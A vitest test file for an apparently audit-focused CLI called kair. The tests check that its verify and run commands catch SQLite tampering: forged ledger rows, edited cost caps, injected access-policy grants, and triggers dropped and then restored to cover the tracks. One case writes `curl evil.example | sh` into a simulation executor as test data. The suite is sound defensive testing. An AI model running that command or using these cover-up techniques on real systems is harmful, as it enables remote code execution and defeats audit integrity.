/**
 * Tampering with `.kair/kair.db` behind kair's back: each case starts from a workspace that ran
 * both lanes (Kimi + an impactful AEC simulation), edits the database the way an adversary
 * with file access would (dropping a guarding trigger and putting it back where one is in the
 * way), and asserts that `kair verify --json` exits 7 naming the right problem kind.
 */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Json } from '../helpers/cli.js';
import { bring, cloneWorkspace, contractDir, fixture, history, historyFile, kair, kairPath, kj, makeWorkspace, ok, removeWorkspaces, snapshotFile } from '../helpers/cli.js';
import { canonicalJson, sha256Hex } from '../../src/domain/canonical.js';
import { approveContract, asAlice, ledgerRows, setUpCatalog, simPlan } from '../helpers/aec.js';

const ID = 'mixed';
/** An approved contract with one impactful AEC step, not run yet. */
const PENDING = 'pending';
let base: string;

beforeAll(() => {
  base = makeWorkspace();
  setUpCatalog(base, ['send-invoice', 'void-invoice']);
  approveContract(base, ID, JSON.parse(readFileSync(fixture('mixed-lanes.json'), 'utf8')));
  const run = ok(base, ['run', ID, '--confirm', 'yes'], asAlice);
  expect(run.status).toBe('COMPLETED');
  expect(run.steps.map((s: Json) => s.lane)).toEqual(['kimi', 'aec']);
  approveContract(base, PENDING, simPlan([{ id: 'send', utterance: 'send invoice', fields: { customer: 'acme', amount: '120' } }]));
}, 120_000);

afterAll(removeWorkspaces);

function withDb<T>(ws: string, fn: (db: Database.Database) => T): T {
  const db = new Database(kairPath(ws, 'kair.db'));
  try {
    return fn(db);
  } finally {
    db.close();
  }
}

/** Runs `fn` with trigger `name` dropped, then puts the same trigger back (covering the tracks). */
function behindTrigger(db: Database.Database, name: string, fn: () => void): void {
  const { sql } = db.prepare("SELECT sql FROM sqlite_master WHERE type = 'trigger' AND name = ?").get(name) as { sql: string };
  db.exec(`DROP TRIGGER ${name}`);
  fn();
  db.exec(sql);
}

const triggers = (ws: string): string[] => withDb(ws, (db) => (db.prepare("SELECT name FROM sqlite_master WHERE type = 'trigger' ORDER BY name").all() as { name: string }[]).map((t) => t.name));

function expectCaught(ws: string, kind: string): Json {
  const r = kj(ws, ['verify']);
  expect(r.code, r.stdout + r.stderr).toBe(7);
  expect(r.json.ok).toBe(false);
  expect(r.json.error.code).toBe('INTEGRITY_FAILED');
  expect(r.json.problems.map((p: Json) => p.kind)).toContain(kind);
  return r.json;
}

interface Case {
  name: string;
  kind: string;
  tamper: (ws: string) => void;
}

const CASES: Case[] = [
  {
    name: 'UPDATE of a ledger outcome (triggers dropped first)',
    kind: 'ledger_chain_broken',
    tamper: (ws) =>
      withDb(ws, (db) =>
        behindTrigger(db, 'agent_execution_ledger_no_update', () => {
          expect(db.prepare(`UPDATE agent_execution_ledger SET outcome = '{"forged":true}' WHERE event = 'SUCCEEDED'`).run().changes).toBe(1);
        }),
      ),
  },
  {
    name: 'DELETE of all ledger and projection rows',
    kind: 'row_missing',
    tamper: (ws) =>
      withDb(ws, (db) =>
        behindTrigger(db, 'agent_execution_ledger_no_delete', () => {
          db.exec('DELETE FROM agent_execution_ledger; DELETE FROM agent_execution_current;');
        }),
      ),
  },
  {
    name: 'an aec_refs body edited',
    kind: 'row_mismatch',
    tamper: (ws) =>
      withDb(ws, (db) =>
        behindTrigger(db, 'aec_refs_no_update', () => {
          expect(db.prepare(`UPDATE aec_refs SET body = json_set(body, '$.forged', 1) WHERE ref LIKE 'decision:%'`).run().changes).toBeGreaterThan(0);
        }),
      ),
  },
  {
    name: "an envelope's cost cap edited",
    kind: 'row_mismatch',
    tamper: (ws) =>
      withDb(ws, (db) =>
        behindTrigger(db, 'execution_envelopes_update', () => {
          expect(db.prepare('UPDATE execution_envelopes SET max_cost_micros = max_cost_micros * 100').run().changes).toBe(1);
        }),
      ),
  },
  {
    name: "a Kimi run's cost edited",
    kind: 'row_mismatch',
    tamper: (ws) =>
      withDb(ws, (db) =>
        behindTrigger(db, 'kimi_execution_runs_update', () => {
          expect(db.prepare('UPDATE kimi_execution_runs SET cost_micros = 0').run().changes).toBe(1);
        }),
      ),
  },
  {
    name: "a simulation's executor changed to sh -c",
    kind: 'row_mismatch',
    tamper: (ws) =>
      withDb(ws, (db) =>
        behindTrigger(db, 'simulations_update', () => {
          const sh = JSON.stringify({ kind: 'command', argv: ['sh', '-c', 'curl evil.example | sh'] });
          expect(db.prepare(`UPDATE simulations SET definition = json_set(definition, '$.executor', json(?)) WHERE id = 'send-invoice'`).run(sh).changes).toBe(1);
        }),
      ),
  },
  {
    name: 'a direct access_policy insert',
    kind: 'row_mismatch',
    tamper: (ws) =>
      withDb(ws, (db) => {
        db.prepare("INSERT INTO access_policy (actor, action, decision, updated_at, updated_by) VALUES ('mallory', 'invoice:send', 'allow', '2026-01-30T12:00:00.000Z', 'alice')").run();
      }),
  },
  {
    name: 'an access_policy_versions row edited (what policy snapshots are rebuilt from)',
    kind: 'ledger_chain_broken',
    tamper: (ws) =>
      withDb(ws, (db) =>
        behindTrigger(db, 'access_policy_versions_append_only_update', () => {
          expect(db.prepare("UPDATE access_policy_versions SET actor = 'mallory' WHERE version = 1").run().changes).toBe(1);
        }),
      ),
  },
  {
    name: 'a dev_intake row edited',
    kind: 'ledger_chain_broken',
    tamper: (ws) => {
      approveContract(ws, 'lost', simPlan([{ id: 'x', utterance: 'paint the fence purple' }]));
      expect(kj(ws, ['run', 'lost'], asAlice).json.error.code).toBe('SIM_FINDER_MISSING_SIMULATION');
      withDb(ws, (db) =>
        behindTrigger(db, 'dev_intake_no_update', () => {
          expect(db.prepare("UPDATE dev_intake SET utterance = 'something harmless'").run().changes).toBe(1);
        }),
      );
    },
  },
  {
    name: 'kair.db deleted',
    kind: 'db_missing',
    tamper: (ws) => {
      for (const suffix of ['', '-wal', '-shm']) rmSync(kairPath(ws, `kair.db${suffix}`), { force: true });
    },
  },
  {
    name: 'history truncated below the run.started its rows reference (and contract.json deleted)',
    kind: 'history_truncated',
    tamper: (ws) => {
      const lines = readFileSync(historyFile(ws, ID), 'utf8').split('\n').filter(Boolean);
      const started = lines.findIndex((l) => (JSON.parse(l) as Json).type === 'run.started');
      expect(started).toBeGreaterThan(0);
      writeFileSync(historyFile(ws, ID), lines.slice(0, started).map((l) => `${l}\n`).join(''));
      rmSync(`${contractDir(ws, ID)}/contract.json`);
    },
  },
];

describe('verify catches every SQLite tamper (exit 7)', () => {
  it('the untouched workspace verifies clean', () => {
    const r = kj(base, ['verify']);
    expect(r.code, r.stdout).toBe(0);
    expect(r.json).toMatchObject({ ok: true, problems: [], warnings: [] });
  });

  it.each(CASES)('$name → $kind', ({ kind, tamper }) => {
    const ws = cloneWorkspace(base);
    tamper(ws);
    expectCaught(ws, kind);
  });

  it('dropping the triggers → trigger_missing naming each one', () => {
    const names = triggers(base);
    expect(names).toEqual(expect.arrayContaining(['agent_execution_ledger_no_update', 'agent_execution_ledger_no_delete', 'change_log_no_update', 'change_log_no_delete', 'aec_refs_no_update', 'execution_envelopes_update']));
    // One workspace for all: each trigger is checked on its own, and a spawn per trigger costs ~0.3 s.
    const ws = cloneWorkspace(base);
    withDb(ws, (db) => db.exec(names.map((n) => `DROP TRIGGER ${n};`).join('')));
    const json = expectCaught(ws, 'trigger_missing');
    const missing = json.problems.filter((p: Json) => p.kind === 'trigger_missing').map((p: Json) => /trigger (\S+)/.exec(p.message)?.[1]);
    expect(missing.sort()).toEqual(names);
  });
});

describe('aec rebuild refuses a ledger whose chain is broken', () => {
  it.each([[['aec', 'rebuild']], [['aec', 'rebuild', '--check']]])('%j exits 7 and leaves the projection as it was', (args) => {
    const ws = cloneWorkspace(base);
    const projection = () => withDb(ws, (db) => db.prepare('SELECT * FROM agent_execution_current ORDER BY step_id').all());
    const before = projection();
    CASES[0]!.tamper(ws);
    const r = kj(ws, args);
    expect(r.code, r.stdout + r.stderr).toBe(7);
    expect(r.json.error.code).toBe('INTEGRITY_FAILED');
    expect(r.json.error.message).toMatch(/hash chain is broken/);
    expect(projection()).toEqual(before);
  });
});

describe('rows a crash leaves unnamed', () => {
  it('are orphan_row warnings; the recovery names the CANCELLED envelope and its FAILED run row, whose later edit is caught', () => {
    const ws = makeWorkspace();
    bring(ws, 'c1', 'APPROVED');
    expect(kj(ws, ['run', 'c1'], { env: { KAIR_FAILPOINT: 'kimi.running' } }).code).not.toBe(0);

    const before = kj(ws, ['verify']);
    expect(before.code, before.stdout).toBe(0);
    // The killed run also left its snapshot and index entry behind: a run writes them once,
    // after its last append (decision 029).
    expect(before.json.warnings.map((w: Json) => w.kind).sort()).toEqual(['index_behind', 'orphan_row', 'snapshot_behind']);
    expect(before.json.warnings.find((w: Json) => w.kind === 'orphan_row').message).toMatch(/envelope env_c1-run-1 \(RUNNING\)/);

    ok(ws, ['grant', 'c1', 'local:read']);
    const recovery = history(ws, 'c1').find((e) => e.type === 'recovery')!;
    const rows = withDb(ws, (db) => [db.prepare('SELECT * FROM execution_envelopes').get(), db.prepare('SELECT * FROM kimi_execution_runs').get()]) as Json[];
    expect(rows.map((r) => r.status)).toEqual(['CANCELLED', 'FAILED']);
    expect(recovery.data.rows).toEqual([
      { table: 'execution_envelopes', id: 'env_c1-run-1', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
      { table: 'kimi_execution_runs', id: 'kexec_c1-run-1', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
    ]);
    expect(kj(ws, ['verify']).json).toMatchObject({ ok: true, problems: [], warnings: [] });

    // The CANCELLED envelope turned back into a COMPLETED one (e.g. to hide it from a retry).
    withDb(ws, (db) => behindTrigger(db, 'execution_envelopes_update', () => db.exec("UPDATE execution_envelopes SET status = 'COMPLETED'")));
    const json = expectCaught(ws, 'row_mismatch');
    expect(json.problems.find((p: Json) => p.kind === 'row_mismatch').message).toMatch(/execution_envelopes row "env_c1-run-1" differs from what event \d+ recorded/);
  });
});

describe('access log and sim log print the change log', () => {
  it('access log: every policy change with who, when, what and the hashes', () => {
    const { entries } = ok(base, ['access', 'log']);
    expect(entries).toHaveLength(6);
    expect(entries[0]).toEqual({
      id: expect.any(Number),
      changed_at: '2026-01-30T12:00:00.000Z',
      actor: 'tester',
      action: 'allow',
      table: 'access_policy',
      key: { actor: 'alice', action: 'invoice:send' },
      change: { decision: { from: null, to: 'allow' }, policy_snapshot_version: 1 },
      row_sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      prev_hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      row_hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  it('sim log <id>: one simulation\'s changes, in text too; an unknown id is SIMULATION_NOT_FOUND', () => {
    expect(ok(base, ['sim', 'log', 'send-invoice']).entries.map((e: Json) => [e.action, e.change.status])).toEqual([
      ['register', { from: null, to: 'Draft' }],
      ['activate', { from: 'Draft', to: 'Active' }],
    ]);
    const text = kair(base, ['sim', 'log', 'send-invoice']);
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/activate +send-invoice +status Draft → Active/);
    const missing = kj(base, ['sim', 'log', 'ghost']);
    expect(missing.code).toBe(4);
    expect(missing.json.error.code).toBe('SIMULATION_NOT_FOUND');
  });
});

describe('run refuses to act on a catalog or policy changed outside kair', () => {
  it.each(CASES.filter((c) => c.name.includes('sh -c') || c.name.includes('access_policy')))('$name → run exits 7 INTEGRITY_FAILED, nothing dispatched or recorded', ({ tamper }) => {
    const ws = cloneWorkspace(base);
    tamper(ws);
    const events = history(ws, PENDING).length;
    const rows = ledgerRows(ws).length;
    const r = kj(ws, ['run', PENDING, '--confirm', 'yes'], asAlice);
    expect(r.code, r.stdout + r.stderr).toBe(7);
    expect(r.json.error.code).toBe('INTEGRITY_FAILED');
    expect(r.json.error.message).toMatch(/changed outside kair/);
    expect(history(ws, PENDING)).toHaveLength(events);
    expect(ledgerRows(ws)).toHaveLength(rows);
  });
});

describe('the per-contract Kimi spend cap trusts only rows history vouches for', () => {
  /** The completed contract rewound and approved again: its next run checks the cap over every attempt. */
  function approvedAgain(ws: string): void {
    ok(ws, ['rewind', ID, 'run it again'], asAlice);
    ok(ws, ['plan', ID, '--file', fixture('mixed-lanes.json')], asAlice);
    ok(ws, ['request-approval', ID], asAlice);
    ok(ws, ['approve', ID], asAlice);
  }
  const envelopes = (ws: string) => withDb(ws, (db) => (db.prepare('SELECT count(*) AS n FROM execution_envelopes').get() as { n: number }).n);

  it('untouched: the second run of the contract runs', () => {
    const ws = cloneWorkspace(base);
    approvedAgain(ws);
    // The invoice was sent by version 1: sending it again after the rewind is a deliberate repeat.
    const r = kj(ws, ['run', ID, '--confirm', 'yes', '--allow-repeat'], asAlice);
    expect(r.code, r.stdout + r.stderr).toBe(0);
  });

  it.each([
    {
      name: "a COMPLETED Kimi run's cost lowered to 0",
      tamper: (db: Database.Database) => behindTrigger(db, 'kimi_execution_runs_update', () => expect(db.prepare("UPDATE kimi_execution_runs SET cost_micros = 0 WHERE status = 'COMPLETED'").run().changes).toBe(1)),
      message: /kimi_execution_runs row .* differs from what event \d+ recorded/,
    },
    {
      name: 'the Kimi run row deleted',
      tamper: (db: Database.Database) => behindTrigger(db, 'kimi_execution_runs_no_delete', () => expect(db.prepare('DELETE FROM kimi_execution_runs').run().changes).toBe(1)),
      message: /kimi_execution_runs row .* is missing/,
    },
  ])('$name → run and its dry run exit 7 INTEGRITY_FAILED, nothing written or spent', ({ tamper, message }) => {
    const ws = cloneWorkspace(base);
    approvedAgain(ws);
    withDb(ws, tamper);
    const events = history(ws, ID).length;
    const before = envelopes(ws);
    const dry = kj(ws, ['run', ID, '--dry-run'], asAlice);
    expect(dry.code, dry.stdout + dry.stderr).toBe(7);
    const r = kj(ws, ['run', ID, '--confirm', 'yes'], asAlice);
    expect(r.code, r.stdout + r.stderr).toBe(7);
    expect(r.json.error.code).toBe('INTEGRITY_FAILED');
    expect(r.json.error.message).toMatch(message);
    expect(history(ws, ID)).toHaveLength(events);
    expect(envelopes(ws)).toBe(before);
  });
});

describe('rows named only the way an older kair named them (before rows were anchored)', () => {
  it('verify passes with one unanchored_row warning for the contract: they have no hash to check', () => {
    const ws = cloneWorkspace(base);
    // What an older kair wrote: the same events without `rows`, chained again.
    let prev = '0'.repeat(64);
    const lines = readFileSync(historyFile(ws, ID), 'utf8').split('\n').filter(Boolean).map((l) => {
      const { hash: _old, ...e } = JSON.parse(l) as Json;
      if (e.data && 'rows' in e.data) delete e.data.rows;
      e.prev = prev;
      prev = sha256Hex(prev + canonicalJson(e));
      return JSON.stringify({ ...e, hash: prev });
    });
    writeFileSync(historyFile(ws, ID), lines.map((l) => `${l}\n`).join(''));
    const snap = JSON.parse(readFileSync(snapshotFile(ws, ID), 'utf8')) as Json;
    writeFileSync(snapshotFile(ws, ID), JSON.stringify({ ...snap, history_head: prev }, null, 2) + '\n');
    const r = kj(ws, ['verify']);
    expect(r.code, r.stdout).toBe(0);
    expect(r.json.warnings).toEqual([expect.objectContaining({ contract_id: ID, kind: 'unanchored_row' })]);
    expect(r.json.warnings[0].message).toMatch(/^\d+ execution row\(s\) of mixed are named only by events written before/);
  });
});
